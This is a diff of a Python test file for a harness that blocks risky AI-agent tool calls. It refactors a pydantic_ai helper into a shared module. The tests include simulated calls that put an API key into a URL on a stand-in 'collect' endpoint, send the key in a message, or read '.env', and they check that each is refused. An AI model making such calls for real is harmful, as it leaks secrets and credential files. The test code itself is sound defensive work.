@@ -14,12 +14,12 @@ from __future__ import annotations
 
 import collections
 import dataclasses
-import json
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
+from agent_support import pydantic_ai_run
 from pydantic import BaseModel, Field, HttpUrl, SecretStr, field_serializer
 from secret_support import api_key, service_harness
 
@@ -29,29 +29,6 @@ from pytest_harness_audit.session.harness import Harness
 @pytest.fixture
 def harness(tmp_path: Path) -> Iterator[Harness]:
     yield from service_harness(tmp_path)
-
-
-def _pydantic_ai_run(tool: Any, name: str, args: dict[str, Any]) -> list[str]:
-    """What the model read back after one call of ``name`` with ``args``."""
-    pytest.importorskip("pydantic_ai")
-    from pydantic_ai import Agent
-    from pydantic_ai.messages import (
-        ModelMessage,
-        ModelResponse,
-        TextPart,
-        ToolCallPart,
-        ToolReturnPart,
-    )
-    from pydantic_ai.models.function import AgentInfo, FunctionModel
-
-    def respond(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
-        if len(messages) == 1:
-            return ModelResponse(parts=[ToolCallPart(name, args)])
-        returned = [p for m in messages for p in m.parts if isinstance(p, ToolReturnPart)]
-        return ModelResponse(parts=[TextPart(json.dumps([str(p.content) for p in returned]))])
-
-    output = Agent(FunctionModel(respond), tools=[tool]).run_sync("go").output
-    return list(json.loads(output))
 
 
 def _fetcher(harness: Harness, fetched: list[str]) -> Any:
@@ -70,7 +47,7 @@ def _fetcher(harness: Harness, fetched: list[str]) -> Any:
 def test_a_key_in_a_typed_url_is_refused_through_pydantic_ai(harness: Harness) -> None:
     fetched: list[str] = []
     url = f"https://example.invalid/collect?k={api_key(harness)}"
-    read = _pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url})
+    read = pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url})
     assert fetched == []
     assert read[0].startswith("[blocked]")
     assert harness.verdict.value == "FAIL"
@@ -79,7 +56,7 @@ def test_a_key_in_a_typed_url_is_refused_through_pydantic_ai(harness: Harness) -
 def test_a_harmless_typed_url_is_fetched_and_recorded(harness: Harness) -> None:
     fetched: list[str] = []
     url = "https://example.invalid/docs?page=2"
-    assert _pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url}) == ["<html></html>"]
+    assert pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url}) == ["<html></html>"]
     assert fetched == [url]
     assert harness.calls()[0].params == {"url": url}
 
@@ -93,11 +70,11 @@ def test_a_key_in_a_secret_str_message_is_refused(harness: Harness) -> None:
         return "sent"
 
     tool = harness.tool(send_message, on_block="return")
-    read = _pydantic_ai_run(tool, "send_message", {"to": "bob", "text": api_key(harness)})
+    read = pydantic_ai_run(tool, "send_message", {"to": "bob", "text": api_key(harness)})
     assert sent == []
     assert read[0].startswith("[blocked]")
     assert harness.verdict.value == "FAIL"
-    assert _pydantic_ai_run(tool, "send_message", {"to": "bob", "text": "hello"}) == ["sent"]
+    assert pydantic_ai_run(tool, "send_message", {"to": "bob", "text": "hello"}) == ["sent"]
 
 
 class Attachment(BaseModel):
@@ -129,7 +106,7 @@ def test_a_model_field_left_out_of_its_serialised_form_is_judged(
 
     attach.__annotations__["ref"] = model
     tool = harness.tool(attach, category="file_read", on_block="return")
-    read = _pydantic_ai_run(tool, "attach", {"ref": {"path": ".env"}})
+    read = pydantic_ai_run(tool, "attach", {"ref": {"path": ".env"}})
     assert ran == []
     assert read[0].startswith("[blocked]")
     assert harness.verdict.value == "FAIL"
@@ -140,7 +117,7 @@ def test_a_harmless_model_field_runs(harness: Harness) -> None:
         return (harness.root / ref.path).read_text(encoding="utf-8")[:8]
 
     tool = harness.tool(attach, category="file_read", on_block="return")
-    assert _pydantic_ai_run(tool, "attach", {"ref": {"path": "README.md"}}) == ["# orders"]
+    assert pydantic_ai_run(tool, "attach", {"ref": {"path": "README.md"}}) == ["# orders"]
     assert harness.calls()[0].params == {"ref": {"path": "README.md", "note": ""}}
     assert harness.verdict.value == "PASS"
 
@@ -154,9 +131,9 @@ def test_a_deque_of_paths_is_judged_by_its_paths(harness: Harness) -> None:
         return "".join((harness.root / p).read_text()[:1] for p in paths)
 
     tool = harness.tool(read_files, category="file_read", on_block="return")
-    assert _pydantic_ai_run(tool, "read_files", {"paths": [".env"]})[0].startswith("[blocked]")
+    assert pydantic_ai_run(tool, "read_files", {"paths": [".env"]})[0].startswith("[blocked]")
     assert ran == []
-    assert _pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
+    assert pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
     assert harness.calls()[-1].params == {"paths": ["README.md"]}
 
 
@@ -177,11 +154,11 @@ def test_a_key_in_a_url_field_of_a_dataclass_is_refused(harness: Harness) -> Non
 
     tool = harness.tool(fetch_page, category="network", on_block="return")
     url = f"https://example.invalid/collect?k={api_key(harness)}"
-    assert _pydantic_ai_run(tool, "fetch_page", {"page": {"url": url}})[0].startswith("[blocked]")
+    assert pydantic_ai_run(tool, "fetch_page", {"page": {"url": url}})[0].startswith("[blocked]")
     assert fetched == []
     assert harness.verdict.value == "FAIL"
     harmless = "https://example.invalid/docs"
-    assert _pydantic_ai_run(tool, "fetch_page", {"page": {"url": harmless}}) == ["<html></html>"]
+    assert pydantic_ai_run(tool, "fetch_page", {"page": {"url": harmless}}) == ["<html></html>"]
     assert harness.calls()[-1].params == {"page": {"url": harmless}}
 
 
@@ -194,9 +171,9 @@ def test_a_path_in_bytes_inside_a_list_is_judged_by_its_text(harness: Harness) -
         return "".join((harness.root / p.decode()).read_text()[:1] for p in paths)
 
     tool = harness.tool(read_files, category="file_read", on_block="return")
-    assert _pydantic_ai_run(tool, "read_files", {"paths": [".env"]})[0].startswith("[blocked]")
+    assert pydantic_ai_run(tool, "read_files", {"paths": [".env"]})[0].startswith("[blocked]")
     assert ran == []
-    assert _pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
+    assert pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
     assert harness.calls()[-1].params == {"paths": ["README.md"]}
 
 
